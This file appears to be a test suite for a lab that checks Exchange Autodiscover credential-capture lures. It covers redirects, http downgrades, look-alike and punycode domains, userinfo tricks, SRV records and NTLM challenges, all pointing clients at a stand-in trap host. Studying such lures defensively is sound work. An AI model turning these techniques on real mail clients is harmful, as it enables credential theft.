import assert from 'node:assert/strict';
import { basic, send } from '../labClient.ts';
import type { Answer } from '../labClient.ts';
import { negotiateMessage } from '../ntlmClient.ts';
import { anna, location } from './wire.ts';
import type { Effect, Effects, Wire } from './wire.ts';

const pox = '/autodiscover/autodiscover.xml';
const trapUrl = `https://elsewhere.test${pox}`;
const trapEws = 'https://elsewhere.test/EWS/Exchange.asmx';

/** A client that falls for the lure is written down, with the scheme and without the secret. */
async function isTrapped(wire: Wire, host: string, authority = host): Promise<void> {
  const { status } = await send(wire.lab, { host, headers: { host: authority }, authorization: basic(wire.lab) });
  assert.equal(status, 401);
  const [entry] = wire.lab.status().trap;
  assert.deepEqual([entry?.host, entry?.authorization], [host, 'Basic']);
}

/** Where a request is redirected to, and that the trap is there. */
function redirected(ask: (wire: Wire) => Promise<Answer>, url: string, status = 302, host?: string): Effect {
  return async (wire) => {
    const answer = await ask(wire);
    assert.deepEqual([answer.status, location(answer)], [status, url]);
    await isTrapped(wire, host ?? new URL(url).hostname);
  };
}

const askPox = (wire: Wire): Promise<Answer> => wire.pox();
const askEws = (wire: Wire): Promise<Answer> => wire.call();
const poxRedirected = (host: string): Effect => redirected(askPox, `https://${host}${pox}`);

/** Plain http records whoever sends a credential in the clear. */
function downgraded(ask: (wire: Wire) => Promise<Answer>, url: string): Effect {
  return async (wire) => {
    assert.equal(location(await ask(wire)), url);
    const { hostname: host, pathname: path } = new URL(url);
    await wire.send({ scheme: 'http', host, path, authorization: basic(wire.lab) });
    assert.equal(wire.lab.status().trap[0]?.authorization, 'Basic');
  };
}

function told(ask: (wire: Wire) => Promise<Answer>, text: string, host: string): Effect {
  return async (wire) => {
    const { body } = await ask(wire);
    assert.ok(body.includes(text), body);
    await isTrapped(wire, host);
  };
}

function asRealm(effect: Effect): Effect {
  return async (wire) => {
    await effect(wire);
    const challenges = await wire.challenges({ host: 'elsewhere.test' });
    assert.deepEqual(challenges, ['Negotiate', 'NTLM', 'Basic realm="mail.contoso.test"']);
  };
}

/** The trap answers the first leg of NTLM, as one must who wants the third. */
async function wantsNtlm(wire: Wire): Promise<void> {
  const authorization = `NTLM ${negotiateMessage().toString('base64')}`;
  const [challenge, ...others] = (await wire.challenges({ host: 'elsewhere.test', authorization })) ?? [];
  assert.match(challenge ?? '', /^NTLM TlRMTVNTUAAC/);
  assert.deepEqual(others, []);
}

export const lureEffects: Effects = {
  lureRedirectOfPox: redirected(askPox, trapUrl),
  lureRedirectOfSoap: redirected((wire) => wire.soap(), trapUrl, 307),
  lureRedirectOfJson: redirected((wire) => wire.json(), 'https://elsewhere.test/autodiscover/autodiscover.json'),
  lureRedirectOfEws: redirected(askEws, trapEws),
  lureRedirectAfterSignIn: redirected(askEws, trapEws, 307),
  lureRedirectTwice: async (wire) => {
    const { headers } = await wire.pox();
    assert.deepEqual(headers.location, [`https://mail.contoso.test${pox}?again`, trapUrl]);
  },
  lureRedirectFromHttp: redirected((wire) => wire.plain(), trapUrl),
  lureDowngradeToHttp: downgraded(askPox, `http://autodiscover.contoso.test${pox}`),
  lureEwsDowngradeToHttp: downgraded(askEws, 'http://mail.contoso.test/EWS/Exchange.asmx'),
  lureMetaRefresh: told(askPox, `http-equiv="refresh" content="0; url=${trapUrl}"`, 'elsewhere.test'),
  lureUserInformation: redirected(askPox, `https://mail.contoso.test@elsewhere.test${pox}`),
  lureLookAlikeLetters: poxRedirected('mail.xn--cntoso-wqf.test'),
  lureLookAlikeHyphen: poxRedirected('mail-contoso.test'),
  lureNameAsPrefix: poxRedirected('mail.contoso.test.elsewhere.test'),
  lureUnapprovedSubdomain: poxRedirected('login.contoso.test'),
  lureAddressLiteral: async (wire) => {
    const url = new URL(location(await wire.pox()) ?? '');
    assert.deepEqual([url.hostname, url.port], ['127.0.0.1', String(wire.lab.state.httpsPort)]);
    assert.match(
      String((await wire.certificate({ servername: 'elsewhere.test' })).subjectAltName),
      /IP Address:127\.0\.0\.1/,
    );
    await isTrapped(wire, '127.0.0.1', url.host);
  },
  lureOtherPort: async (wire) => {
    const url = new URL(location(await wire.pox()) ?? '');
    assert.deepEqual([url.hostname, url.port], ['mail.contoso.test', String(wire.lab.state.httpsPort)]);
    assert.equal((await wire.call()).status, 200);
    await isTrapped(wire, 'mail.contoso.test', url.host);
  },
  lureTrailingDot: async (wire) => {
    assert.equal(location(await wire.pox()), `https://elsewhere.test.${pox}`);
    await wire.send({ host: 'elsewhere.test', headers: { host: 'elsewhere.test.' }, authorization: basic(wire.lab) });
    assert.equal(wire.lab.status().trap[0]?.host, 'elsewhere.test.');
  },
  lureOtherCase: redirected(askPox, `HTTPS://ELSEWHERE.TEST${pox}`),
  lureRedirectUrl: told(askPox, `<RedirectUrl>${trapUrl}<`, 'elsewhere.test'),
  lureRedirectAddress: told(askPox, '<RedirectAddr>anna.berg@elsewhere.test<', 'autodiscover.elsewhere.test'),
  lureRedirectAddressOfSubdomain: told(askPox, '<RedirectAddr>anna.berg@login.contoso.test<', 'login.contoso.test'),
  lureEwsUrl: async (wire) => {
    await told(askPox, `<EwsUrl>${trapEws}<`, 'elsewhere.test')(wire);
    await wantsNtlm(wire);
  },
  lureJsonUrl: async (wire) => {
    await told((client) => client.json(), `"Url":"${trapEws}"`, 'elsewhere.test')(wire);
    assert.match((await wire.pox(anna)).body, /<EwsUrl>https:\/\/mail\.contoso\.test/);
  },
  lureEwsUrlWithUserInformation: told(
    askPox,
    'https://mail.contoso.test@elsewhere.test/EWS/Exchange.asmx',
    'elsewhere.test',
  ),
  lureServiceRecord: async (wire) => {
    const [record] = await wire.resolve((dns) => dns.resolveSrv('_autodiscover._tcp.contoso.test'));
    assert.deepEqual([record?.name, record?.port], ['elsewhere.test', 443]);
    assert.deepEqual(await wire.addresses('elsewhere.test'), ['127.0.0.1']);
    await wire.isUnknown('autodiscover.contoso.test');
  },
  lureApexAsksForPassword: asRealm(async (wire) => {
    const { status, headers } = await wire.send({ host: 'contoso.test', path: pox });
    assert.deepEqual([status, headers['www-authenticate']], [401, ['Basic realm="mail.contoso.test"']]);
  }),
  lureRealmOfApprovedHost: asRealm(redirected(askEws, trapEws)),
};
